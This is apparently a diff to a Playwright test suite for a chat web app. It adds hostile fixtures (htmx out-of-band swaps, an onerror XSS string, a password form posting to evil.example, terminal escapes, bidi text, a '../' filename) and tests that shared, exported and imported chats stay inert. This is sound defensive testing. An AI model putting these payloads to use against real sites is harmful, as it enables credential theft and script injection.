@@ -2,10 +2,14 @@
 
 from __future__ import annotations
 
+import time
+
 import pytest
 from playwright.sync_api import Page, expect
 
-from tests.browser.chat import Chat
+from tests.browser.chat import Chat, Watch
+from tests.browser.conftest import OpenChat
+from tests.browser.test_look import NARROW, overflow, serious
 from tests.server import Person, Server
 from tests.standin import Say, StandIn
 
@@ -28,6 +32,12 @@ HOSTILE = {
     "form": "<form action='http://evil.example/'><input name=password><button>Log in</button></form>",
     "sse frame": 'x\n\nid: 9:9\ndata: <hx-partial hx-target="#title">owned</hx-partial>\n\n: y',
     "style": "<p style='position:fixed;inset:0;background:red'>big</p><link rel=stylesheet href=//evil.example/a.css>",
+    "terminal": "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x9b2J",
+    "zalgo": "Z" + "\u0301\u0489\u0316" * 300 + " and \u202eright to left\u2066 without an end",
+    "out of band": (
+        "<div id=title hx-swap-oob='true'>owned</div><template hx-swap-oob='innerHTML:#title'>owned</template>"
+        "<hx-partial hx-target='#composer' hx-swap='delete'></hx-partial>"
+    ),
     "control": "bidi \u202e txt \u0007 \ufeff \u2028 line \x0b tab",
 }
 
@@ -102,3 +112,81 @@ def test_a_hostile_title_is_text_everywhere(chat: Chat, server: Server, person: 
     chat.page.reload()
     assert chat.page.evaluate("window.hurt") is None
     assert chat.page.title().startswith("<img src=x")
+
+
+def test_hostile_text_is_inert_for_whoever_has_the_link_and_in_the_files(
+    chat: Chat, standin: StandIn, context_of, watch: Watch
+):
+    """Every channel at once, as it is shared, exported and opened again by whoever is nobody here."""
+    everything = "\n\n".join(HOSTILE.values())
+    name = "<img src=x onerror='window.hurt=1'>\u202e"
+    standin.play(
+        Say(
+            thinking=everything,
+            calls=[("c1", name, {"a": everything}), ("c2", "get_weather", {"city": everything})],
+        ),
+        Say(everything, reason="length"),
+    )
+    chat.ask(everything[:3000], model="stand-in").done()
+    page = chat.page
+    files = {}
+    for kind in ("md", "json"):
+        answer = page.request.get(f"{chat.path}export.{kind}")
+        assert answer.headers["content-disposition"].startswith("attachment")
+        assert answer.headers["x-content-type-options"] == "nosniff"
+        files[kind] = answer.body()
+    shares = f"{chat.path}share"
+    page.goto(shares)
+    page.get_by_role("button", name="Make a link").click()
+    reader = context_of().new_page()
+    address = page.locator(".found a").get_attribute("href")
+    reader.goto(address)
+    assert reader.evaluate("window.hurt") is None
+    expect(reader.locator("#log details.call")).to_have_count(2)
+    for summary in reader.locator("#log details > summary:visible").all():
+        summary.click()
+    inside = reader.locator(
+        "#log :is(script, style, iframe, form, link, template, textarea, hx-up, hx-partial)"
+    )
+    expect(inside).to_have_count(0)
+    expect(reader.locator("#log :is([hx-get], [hx-swap-oob], [onerror], [onload], [style])")).to_have_count(0)
+    expect(reader.locator("button:visible")).to_have_count(0)
+    assert serious(reader) == []
+    assert overflow(reader) == 0
+    page.goto("/archive")
+    page.locator("#file").set_input_files(
+        {"name": "../<b>.json", "mimeType": "application/json", "buffer": files["json"]}  # type: ignore[arg-type]
+    )
+    page.get_by_role("button", name="Import").click()
+    expect(page.locator("#log details.call")).to_have_count(2)
+    assert page.evaluate("window.hurt") is None
+    # What is taken back leads nowhere, from the next look on.
+    watch.allow("404")
+    page.goto(shares)
+    page.get_by_role("button", name="Take back").click()
+    reader.reload()
+    expect(reader.locator("#log")).to_have_count(0)
+
+
+HUGE = {
+    "nested quotes": ">" * 100_000,
+    "nested lists": "- " * 50_000,
+    "one line": "x" * 1_000_000,
+    "open fence": "```\n" + "y" * 300_000,
+}
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("name", HUGE)
+def test_huge_text_neither_freezes_the_page_nor_widens_it(name: str, open_chat: OpenChat, standin: StandIn):
+    chat = open_chat(viewport=NARROW)
+    standin.play(Say(HUGE[name], pieces=20_000))
+    began = time.monotonic()
+    chat.ask("Say it", model="stand-in").done(40)
+    chat.text.fill("Still here?")
+    assert time.monotonic() - began < 30
+    assert overflow(chat.page) == 0
+    assert chat.page.evaluate("() => document.querySelectorAll('#log *').length") < 3_000
+    chat.page.reload()
+    assert overflow(chat.page) == 0
+    expect(chat.text).to_have_value("Still here?")
